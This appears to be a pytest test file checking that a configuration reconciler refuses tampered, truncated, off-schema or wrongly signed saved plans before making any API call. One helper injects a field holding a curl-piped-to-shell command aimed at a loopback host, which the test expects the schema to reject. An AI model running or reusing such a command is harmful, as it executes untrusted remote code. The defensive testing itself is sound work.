"""Attacker: whoever can swap or edit a saved plan (a CI artifact) between review and apply.

`apply PLAN` applies exactly the reviewed plan or nothing: a file off the plan schema, an edited
value, an edited target, a truncated download, a missing fingerprint or ETag, and (with
RECONCILE_PLAN_SIGNING_KEY set) an unsigned or wrongly signed plan are each refused with exit 1,
a message naming what is wrong, and not one API request (the simulators' `/_sandbox/stats`).
Every `reconcile` here is a real process against the sandbox over loopback.
"""

from __future__ import annotations

import copy
import json
import tomllib
from collections.abc import Iterator
from fnmatch import fnmatch
from pathlib import Path
from typing import Any

import pytest
from plan_integrity_support import (
    KEY,
    OTHER_KEY,
    SECRETS,
    SIGNING,
    Rig,
    Run,
    Sandbox,
    api_requests,
    converge_and_plan_changes,
    first_change,
    resealed,
    rig_on,
    start_sandbox,
    write_plan,
)

from reconciler.plan import Action, Change, FieldDiff, Plan, Risk
from reconciler.plan.integrity import canonical_bytes, plan_checksum, seal, seal_problems
from reconciler.plan.saved import plan_schema

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    running = start_sandbox(seed="empty", credentials=SECRETS)
    yield running
    running.stop()


@pytest.fixture(scope="module")
def planned(sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The tenant converged on the example, and an unsigned plan that updates, deletes and
    deactivates (refused applies make no write, so the tenant stays as this left it)."""
    with rig_on(sandbox, tmp_path_factory.mktemp("planned")) as rig:
        return converge_and_plan_changes(rig)


@pytest.fixture
def rig(sandbox: Sandbox, tmp_path: Path) -> Iterator[Rig]:
    with rig_on(sandbox, tmp_path / "work") as made:
        yield made


def refused(rig: Rig, data: dict[str, Any] | str, *, key: str | None = None) -> Run:
    """`reconcile apply plan.json` of ``data`` (a plan, or the file's text): exit 1, no request."""
    path = rig.workdir / "plan.json"
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        write_plan(rig, data)
    before = api_requests(rig)
    run = rig.reconcile("apply", "plan.json", env={SIGNING: key})
    assert run.returncode == 1, run.output
    assert api_requests(rig) == before, f"API requests were made:\n{run.output}"
    assert "plan.json" in run.stderr, run.output
    assert "no API call was made" in run.stderr or "plan.json:" in run.stderr, run.output
    assert not (rig.workdir / "plan.json.journal.jsonl").exists()
    return run


# -- the checksum ----------------------------------------------------------------------------


def sample() -> dict[str, Any]:
    change = Change(
        address='billing_codes.categories["Software"]',
        kind="billing_code_mapping",
        key="Software",
        section="billing_codes",
        owner="salesbuildr",
        action=Action.UPDATE,
        before={"billing_code": "Software Licensing"},
        after={"billing_code": "Cloud Subscriptions"},
        diff=(FieldDiff("billing_code", "Software Licensing", "Cloud Subscriptions"),),
        reason="differs",
        ids={"live": {"id": 7}},
    )
    plan = Plan(
        changes=(change,),
        risk=Risk.SAFE,
        observed={change.address: "sha256:" + "a" * 64, "salesbuildr:billing-codes": 'etag:"1"'},
        api_calls={"autotask": 3, "salesbuildr": 2},
        targets={"autotask": "http://127.0.0.1:1/at", "salesbuildr": "http://127.0.0.1:2/sb"},
        config_sha256="b" * 64,
        config_file="mappings.yaml",
        generated_at="2026-12-02T12:00:00Z",
        tool_version="0.1.0",
        sections=("billing_codes",),
        policy={"max_deletes": 5},
    )
    return plan.to_dict()


def different(value: Any) -> Any:
    if isinstance(value, bool):
        return not value
    if isinstance(value, int | float):
        return value + 1
    if isinstance(value, str):
        return value + "x"
    if isinstance(value, list):
        return [*value, "x"]
    if isinstance(value, dict):
        return {**value, "x": 1}
    raise AssertionError(f"no mutation for {value!r}")


def test_the_checksum_covers_every_field_and_only_those() -> None:
    data = sample()
    checksum = plan_checksum(data)
    assert checksum.startswith("sha256:") and len(checksum) == 7 + 64
    for name in data:
        assert plan_checksum({**data, name: different(data[name])}) != checksum, name
        assert plan_checksum({k: v for k, v in data.items() if k != name}) != checksum, name
    nested = copy.deepcopy(data)
    nested["changes"][0]["after"]["billing_code"] = "Hardware Sales"
    assert plan_checksum(nested) != checksum
    nested = copy.deepcopy(data)
    nested["targets"]["autotask"] = "http://127.0.0.9:1/at"
    assert plan_checksum(nested) != checksum
    assert plan_checksum({**data, "checksum": "sha256:" + "0" * 64, "signature": "x"}) == checksum


def test_the_checksum_is_over_canonical_json_of_the_file_as_saved() -> None:
    data = sample()
    expected = json.dumps(data, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    assert canonical_bytes(data) == expected.encode("utf-8")
    sealed = seal(data, KEY)
    reread = json.loads(json.dumps(sealed, indent=2))
    assert reread["checksum"] == checksum_of_text(expected)
    assert seal_problems(reread, KEY) == []
    assert seal_problems(reread, None) == []  # a signature nobody can check is not a problem
    assert seal_problems(reread, OTHER_KEY) != []
    assert seal(data, None).keys() == {*data, "checksum"}
    assert sealed["signature"].startswith("hmac-sha256:")


def checksum_of_text(text: str) -> str:
    import hashlib  # noqa: PLC0415

    return "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest()


# -- the schema ships in the package ---------------------------------------------------------


def test_the_shipped_schema_is_the_published_one_and_is_package_data() -> None:
    published = (REPO / "schemas" / "plan.schema.json").read_text(encoding="utf-8")
    shipped = REPO / "reconciler" / "data" / "plan.schema.json"
    assert shipped.read_text(encoding="utf-8") == published
    assert plan_schema() == json.loads(published)  # what apply loads (importlib.resources)
    globs = tomllib.loads((REPO / "pyproject.toml").read_text())["tool"]["setuptools"][
        "package-data"
    ]["reconciler"]
    assert any(fnmatch("data/plan.schema.json", glob) for glob in globs), globs
    assert {"checksum", "signature"} <= set(plan_schema()["properties"])


# -- the attacks -----------------------------------------------------------------------------


def test_an_edited_after_value_is_refused(rig: Rig, planned: dict[str, Any]) -> None:
    tampered = copy.deepcopy(planned)
    change = first_change(tampered, "update", section="billing_codes")
    change["after"]["billing_code"] = "Hardware Sales"
    for diff in change["diff"]:
        diff["after"] = "Hardware Sales"

    run = refused(rig, tampered)

    assert "field `checksum` does not match the plan's content" in run.stderr


def test_an_edited_target_is_refused_before_any_connection(
    rig: Rig, planned: dict[str, Any]
) -> None:
    tampered = copy.deepcopy(planned)
    tampered["targets"]["autotask"] = "http://127.0.0.2:9/atservicesrest"

    run = refused(rig, tampered)

    assert "field `checksum` does not match" in run.stderr
    assert "127.0.0.2" not in run.stderr


def test_a_truncated_plan_is_located(rig: Rig, planned: dict[str, Any]) -> None:
    text = json.dumps(planned, indent=2, sort_keys=True)
    cut = text[: len(text) // 2]

    run = refused(rig, cut)

    last = cut.rstrip().splitlines()
    assert f"plan.json:{len(last)}:{len(last[-1]) + 1}: " in run.stderr  # where it ends
    assert "not valid JSON: the file ends early (truncated?)" in run.stderr
    assert "download the plan artifact again" in run.stderr


def test_a_json_syntax_error_is_located(rig: Rig, planned: dict[str, Any]) -> None:
    text = json.dumps(planned, indent=2, sort_keys=True)
    broken = text.replace('"risk": ', '"risk" ', 1)
    line = broken[: broken.index('"risk" ')].count("\n") + 1

    run = refused(rig, broken)

    assert f"plan.json:{line}:" in run.stderr
    assert "not valid JSON: Expecting ':' delimiter" in run.stderr


def test_a_duplicated_key_is_refused(rig: Rig, planned: dict[str, Any]) -> None:
    """One reader would apply the first `risk`, another the last: neither is the reviewed one."""
    text = json.dumps(planned, indent=2, sort_keys=True)
    doubled = text.replace('"risk": ', '"risk": "safe",\n  "risk": ', 1)

    run = refused(rig, doubled)

    assert 'has the key "risk" twice in one object' in run.stderr


def test_a_deeply_nested_plan_is_refused_without_a_traceback(rig: Rig) -> None:
    run = refused(rig, '{"format_version": "1.0", "x": ' + "[" * 200_000 + "]" * 200_000 + "}")

    assert "nested too deeply" in run.stderr


def test_an_edit_to_text_without_a_utf8_form_is_refused(rig: Rig, planned: dict[str, Any]) -> None:
    tampered = copy.deepcopy(planned)
    first_change(tampered, "update", section="billing_codes")["after"]["billing_code"] = "\ud800"

    run = refused(rig, json.dumps(tampered, indent=2))  # escaped: the file itself is ASCII

    assert "field `checksum` does not match" in run.stderr


def _without_observed(data: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in data.items() if k != "observed"}


def _bad_action(data: dict[str, Any]) -> dict[str, Any]:
    data = copy.deepcopy(data)
    data["changes"][0]["action"] = "explode"
    return data


def _changes_as_object(data: dict[str, Any]) -> dict[str, Any]:
    return {**data, "changes": {"0": data["changes"][0]}}


def _extra_field(data: dict[str, Any]) -> dict[str, Any]:
    data = copy.deepcopy(data)
    data["changes"][0]["run_after"] = "curl http://127.0.0.2/x | sh"
    return data


def _fingerprint_not_a_hash(data: dict[str, Any]) -> dict[str, Any]:
    data = copy.deepcopy(data)
    address = first_change(data, "update")["address"]
    data["observed"][address] = "anything"
    return data


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        pytest.param(_without_observed, "the plan: 'observed' is a required property", id="no-obs"),
        pytest.param(_bad_action, "changes[0].action (", id="bad-action"),
        pytest.param(_changes_as_object, "… is not of type 'array'", id="changes-object"),
        pytest.param(_extra_field, "'run_after' was unexpected", id="extra-field"),
        pytest.param(_fingerprint_not_a_hash, "]: 'anything' does not match", id="bad-fingerprint"),
    ],
)
def test_a_plan_off_the_schema_is_refused_even_with_a_fresh_checksum(
    rig: Rig, planned: dict[str, Any], edit: Any, message: str
) -> None:
    run = refused(rig, resealed(edit(planned)))

    assert "does not match the plan format" in run.stderr
    assert message in run.stderr


@pytest.mark.parametrize("action", ["update", "delete", "deactivate"])
def test_a_write_without_its_fingerprint_is_refused(
    rig: Rig, planned: dict[str, Any], action: str
) -> None:
    """Today's stale check skipped a change whose fingerprint was missing: now it is refused."""
    data = copy.deepcopy(planned)
    address = first_change(data, action)["address"]
    del data["observed"][address]

    run = refused(rig, resealed(data))

    assert "cannot be checked for staleness" in run.stderr
    article = "an" if action == "update" else "a"
    assert f"{address}: {article} {action} without a fingerprint" in run.stderr
    assert f"`observed[{json.dumps(address)}]` is missing" in run.stderr


def test_a_plan_that_observed_nothing_is_refused(rig: Rig, planned: dict[str, Any]) -> None:
    run = refused(rig, resealed({**planned, "observed": {}}))

    for change in planned["changes"]:
        if change["action"] in ("update", "delete", "deactivate"):
            assert f"{change['address']}: " in run.stderr
            assert f"{change['action']} without a fingerprint" in run.stderr
    assert "'salesbuildr:billing-codes' without its ETag" in run.stderr


def test_a_document_write_without_its_etag_is_refused(rig: Rig, planned: dict[str, Any]) -> None:
    data = copy.deepcopy(planned)
    del data["observed"]["salesbuildr:billing-codes"]

    run = refused(rig, resealed(data))

    address = first_change(data, "update", section="billing_codes")["address"]
    assert (
        f"{address}: writes the settings document 'salesbuildr:billing-codes' without its ETag"
        in run.stderr
    )


def test_an_unsigned_plan_is_refused_when_the_key_is_set(rig: Rig, planned: dict[str, Any]) -> None:
    run = refused(rig, planned, key=KEY)

    assert f"field `signature` is missing, and {SIGNING} is set" in run.stderr


def test_a_forged_signature_is_refused(rig: Rig, planned: dict[str, Any]) -> None:
    forged = {**resealed(planned), "signature": "hmac-sha256:" + "0" * 64}

    run = refused(rig, forged, key=KEY)

    assert f"field `signature` does not verify with {SIGNING}" in run.stderr


def test_a_plan_signed_with_another_key_is_refused(rig: Rig, planned: dict[str, Any]) -> None:
    run = refused(rig, resealed(planned, OTHER_KEY), key=KEY)

    assert f"field `signature` does not verify with {SIGNING}" in run.stderr


def test_an_edit_with_a_recomputed_checksum_is_caught_by_the_signature(
    rig: Rig, planned: dict[str, Any]
) -> None:
    """Without a key the checksum catches only accidents; with one, the edit is caught."""
    signed = resealed(planned, KEY)
    tampered = copy.deepcopy(signed)
    first_change(tampered, "update", section="billing_codes")["after"]["billing_code"] = "X"
    rechecked = {**resealed(tampered), "signature": signed["signature"]}

    run = refused(rig, rechecked, key=KEY)

    assert f"field `signature` does not verify with {SIGNING}" in run.stderr


# -- the reviewed plan still applies ---------------------------------------------------------


def test_plan_out_saves_the_checksum_every_view_shows(rig: Rig, sandbox: Sandbox) -> None:
    mappings = rig.example()
    markdown = rig.reconcile("plan", str(mappings), "--out", "plan.json", "--format", "markdown")
    assert markdown.returncode == 0, markdown.output
    saved = rig.plan_json()
    assert saved["checksum"] == plan_checksum(saved)
    assert "signature" not in saved
    assert f"Plan checksum `{saved['checksum']}`" in markdown.stdout

    as_json = rig.reconcile("plan", str(mappings), "--format", "json", env={SIGNING: KEY})
    assert as_json.returncode == 0, as_json.output
    printed = json.loads(as_json.stdout)
    assert seal_problems(printed, KEY) == []


def test_a_key_in_dotenv_does_not_sign(rig: Rig) -> None:
    """Only the real environment holds the key: a `.env` beside the YAML is the PR's."""
    (rig.workdir / ".env").write_text(f"{SIGNING}={KEY}\n")
    run = rig.reconcile("plan", str(rig.example()), "--out", "plan.json")
    if run.returncode == 0:
        assert "signature" not in rig.plan_json()
    else:  # the tool's own variables may be refused outright in .env
        assert run.returncode == 1 and SIGNING in run.stderr, run.output


def test_a_signed_plan_with_updates_deletes_and_deactivations_applies(rig: Rig) -> None:
    signed = converge_and_plan_changes(rig, key=KEY)
    assert seal_problems(signed, KEY) == []
    before = api_requests(rig)

    applied = rig.reconcile("apply", "plan.json", "--force", env={SIGNING: KEY})

    assert applied.returncode == 0, applied.output
    assert "signature was not checked" not in applied.stderr
    assert "Apply complete" in applied.stdout
    assert api_requests(rig) != before
    assert rig.replan_is_empty(rig.workdir / "changed.yaml")


def test_without_the_key_the_checksum_alone_is_checked_and_a_signature_is_noted(
    rig: Rig,
) -> None:
    converge_and_plan_changes(rig, key=KEY)

    applied = rig.reconcile("apply", "plan.json", "--force")

    assert applied.returncode == 0, applied.output
    assert f"plan.json is signed, but {SIGNING} is not set" in applied.stderr
    assert rig.replan_is_empty(rig.workdir / "changed.yaml")
